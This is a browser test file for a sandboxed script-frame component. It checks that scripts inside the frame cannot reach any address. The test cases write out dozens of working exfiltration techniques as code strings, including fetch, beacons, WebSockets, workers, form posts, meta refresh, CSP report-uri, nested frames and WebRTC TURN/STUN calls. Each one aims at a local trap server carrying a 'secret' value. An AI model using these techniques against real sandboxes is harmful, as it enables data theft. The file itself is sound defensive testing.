/** Scripts in frames, of whomever: they reach neither the page nor any address. */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: code that is to run elsewhere
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { commands } from "vitest/browser";
import { frameScripts, OURS, ScriptFrame } from "../../src/ui/script-frame.js";
import { watchCalls } from "./watch.js";

const told: Record<string, unknown>[] = [];
addEventListener("message", ({ data }) => {
  if (data?.test) told.push(data);
});
const cleanups: (() => void)[] = [];
let port = 0;
beforeEach(async () => {
  port = await watchCalls();
});
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
  told.length = 0;
});

const soon = (ms = 400) => new Promise((done) => setTimeout(done, ms));

/** Run a script in a frame, with what it needs to call for help. */
function run(body: string): Promise<string> {
  const box = document.createElement("div");
  box.className = "cw";
  document.body.append(box);
  const script = `const HTTP = "http://127.0.0.1:${port}/secret", TLS = "https://127.0.0.1:${port}/secret", PORT = ${port};
    const tell = (test, more) => parent.postMessage({ test, more }, "*");
    const add = (tag, more) => { const made = Object.assign(document.createElement(tag), more); document.body.append(made); return made; };
    export default { async render({ el }) { ${body} } };`;
  return new Promise((done) => {
    const options = { title: "x", script, module: true, onEnd: (_: boolean, why: string) => done(why) };
    const frame = new ScriptFrame(box, options, "secret");
    cleanups.push(() => {
      frame.dispose();
      box.remove();
    });
  });
}

describe("a script in a frame", () => {
  const CALLS: [string, string][] = [
    ["fetch", "fetch(HTTP, { mode: 'no-cors' }).catch(() => {})"],
    ["XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('POST', HTTP); x.send('secret')"],
    ["a socket", "new WebSocket(`ws://127.0.0.1:${PORT}`)"],
    ["an event source", "new EventSource(HTTP)"],
    ["a beacon", "navigator.sendBeacon(HTTP, 'secret')"],
    ["WebTransport", "new WebTransport(TLS).ready.catch(() => {})"],
    ["an image", "new Image().src = HTTP"],
    ["a style", "add('style', { textContent: `@import '${HTTP}'; * { background: url(${HTTP}) }` })"],
    ["a font", "new FontFace('x', `url(${HTTP})`).load().catch(() => {})"],
    ["a script", "add('script', { src: HTTP })"],
    ["a module", "await import(HTTP + '.js').catch(() => {})"],
    [
      "a module, from code that is a text",
      "for (const act of [eval, Function, setTimeout]) try { const made = act(`import('${HTTP}.js')`); if (act === Function) made(); } catch {} Promise.resolve(`import('${HTTP}.js')`).then(eval)",
    ],
    [
      "a module of a module",
      "await import(URL.createObjectURL(new Blob([`import '${HTTP}.js'`], { type: 'text/javascript' }))).catch(() => {})",
    ],
    [
      "a script of its own module",
      "add('script', { type: 'module', textContent: `import '${HTTP}.js'` }); add('script', { type: 'module', src: URL.createObjectURL(new Blob([`import '${HTTP}.js'`], { type: 'text/javascript' })) })",
    ],
    ["a worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${HTTP}'); importScripts('${HTTP}')`])))"],
    [
      "a worker of a module",
      "new Worker(URL.createObjectURL(new Blob([`import '${HTTP}.js'`])), { type: 'module' })",
    ],
    ["a shared worker", "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${HTTP}')`])))"],
    [
      "links to prepare a visit",
      "for (const rel of ['prefetch', 'prerender', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest']) add('link', { rel, href: HTTP, as: 'image' })",
    ],
    [
      "speculation",
      "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [HTTP] }], prerender: [{ urls: [HTTP] }] }) })",
    ],
    ["a frame", "add('iframe', { src: HTTP }); add('object', { data: HTTP }); add('embed', { src: HTTP })"],
    [
      "a frame by text",
      "add('iframe', { srcdoc: `<meta http-equiv=refresh content='0;url=${HTTP}'><img src='${HTTP}'>` })",
    ],
    ["itself", "location.href = HTTP"],
    [
      "itself by a refresh",
      "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + HTTP }))",
    ],
    ["itself by a link", "add('base', { href: HTTP }); add('a', { href: 'x', ping: HTTP }).click()"],
    ["a window by a link", "add('a', { href: HTTP, target: '_blank' }).click(); open(HTTP)"],
    ["the page by a link", "add('a', { href: HTTP, target: '_top' }).click()"],
    ["a download", "add('a', { href: HTTP, download: 'x' }).click()"],
    [
      "a form",
      "const f = add('form', { action: HTTP, method: 'post' }); f.submit(); add('form', { action: HTTP, target: '_blank' }).requestSubmit()",
    ],
    [
      "a policy that reports",
      "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${HTTP}` })); new Image().src = HTTP",
    ],
    [
      "SVG",
      "el.innerHTML = `<svg><image href='${HTTP}'/><use href='${HTTP}#a'/><feImage href='${HTTP}'/></svg>`",
    ],
    ["media", "add('video', { src: HTTP, poster: HTTP }); add('audio', { src: HTTP, autoplay: true })"],
  ];
  test.each(CALLS)("cannot call anybody by %s", async (_, act) => {
    await run(`try { ${act} } catch {}`);
    await soon();
    expect(await commands.trapped()).toEqual([]);
    expect((await commands.seen()).opened).toEqual([]);
  });

  const RTC = `const call = (RTC) => { const p = new RTC({ iceServers: [{ urls: ["turn:127.0.0.1:" + PORT + "?transport=tcp", "stun:127.0.0.1:" + PORT], username: "secret", credential: "secret" }] }); p.createDataChannel("x"); return p.createOffer().then((offer) => p.setLocalDescription(offer)); };`;
  test.each([
    ["of its own", "await call(window.RTCPeerConnection ?? window.webkitRTCPeerConnection)"],
    ["of an empty frame", "await call(add('iframe', {}).contentWindow.RTCPeerConnection)"],
    [
      "of a frame with a script",
      "const code = `<script>const PORT = ${PORT}; const call = ${call}; call(RTCPeerConnection)</scr` + 'ipt>'; add('iframe', { srcdoc: code })",
    ],
    [
      "of a frame with a script from here",
      "const src = URL.createObjectURL(new Blob([`const PORT = ${PORT}; const call = ${call}; call(RTCPeerConnection)`], { type: 'text/javascript' })); add('iframe', { srcdoc: `<script src='${src}'></scr` + 'ipt>' })",
    ],
    [
      "of a frame with our script",
      "const own = document.querySelector('script').textContent; const f = add('iframe', { srcdoc: `<div id=root></div><script>${own}</scr` + 'ipt>' }); addEventListener('message', ({ data }) => { if (data.told !== 'ready') return; tell('ready'); f.contentWindow.postMessage({ script: `const PORT = ${PORT}; const call = ${call}; export default { render: () => call(window.RTCPeerConnection) }`, module: true, theme: {} }, '*'); })",
    ],
    [
      "of a frame with a handler",
      "add('iframe', { srcdoc: `<img src=x onerror='parent.postMessage(1, \"*\"); new RTCPeerConnection'>` })",
    ],
    [
      "of a frame with an address of script",
      "add('iframe', { src: `javascript:(${call})(RTCPeerConnection)` })",
    ],
    [
      "of a frame from here",
      "add('iframe', { src: URL.createObjectURL(new Blob(['<script>1</scr' + 'ipt>'], { type: 'text/html' })) })",
    ],
    [
      "of itself, begun anew",
      "if (!window.name) { window.name = 'x'; location.reload(); } else await call(window.RTCPeerConnection)",
    ],
    [
      "of itself, written anew",
      "document.open(); document.write('<p>x'); document.close(); await call(window.RTCPeerConnection)",
    ],
    ["of itself elsewhere", "location.href = 'about:blank'"],
    ["of the frame around it", "await call(parent.RTCPeerConnection)"],
    [
      "of a worker",
      "new Worker(URL.createObjectURL(new Blob([`const PORT = ${PORT}; (${call})(self.RTCPeerConnection)`])))",
    ],
  ])("cannot call anybody by WebRTC %s", async (_, act) => {
    void run(`${RTC} try { ${act} } catch {}`);
    await soon(900);
    expect(await commands.trapped()).toEqual([]);
  });

  test("of data that cannot be sent to it says so", async () => {
    let deep: unknown = 1;
    for (let at = 0; at < 100_000; at += 1) deep = [deep];
    const box = document.createElement("div");
    document.body.append(box);
    const ends: boolean[] = [];
    const options = { title: "x", script: "export default { render() {} }", module: true };
    const frame = new ScriptFrame(box, { ...options, onEnd: (drawn) => void ends.push(drawn) }, deep);
    await expect.poll(() => ends).toEqual([false]);
    frame.dispose();
    box.remove();
  });

  test("is run from where the policy says, and from nowhere else", async () => {
    const source = frameScripts.map(async (script) => {
      const bytes = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(script));
      return `'sha256-${btoa(String.fromCharCode(...new Uint8Array(bytes)))}'`;
    });
    expect(OURS, "what OURS in script-frame.ts has to be").toBe((await Promise.all(source)).join(" "));
    await run(`add("script", { textContent: "parent.postMessage({ test: 'ran' }, '*')" });
      add("p", {}).setAttribute("onclick", "parent.postMessage({ test: 'ran' }, '*')");
      document.querySelector("p").click(); tell("done");`);
    await expect.poll(() => told.map(({ test }) => test)).toEqual(["done"]);
  });
});
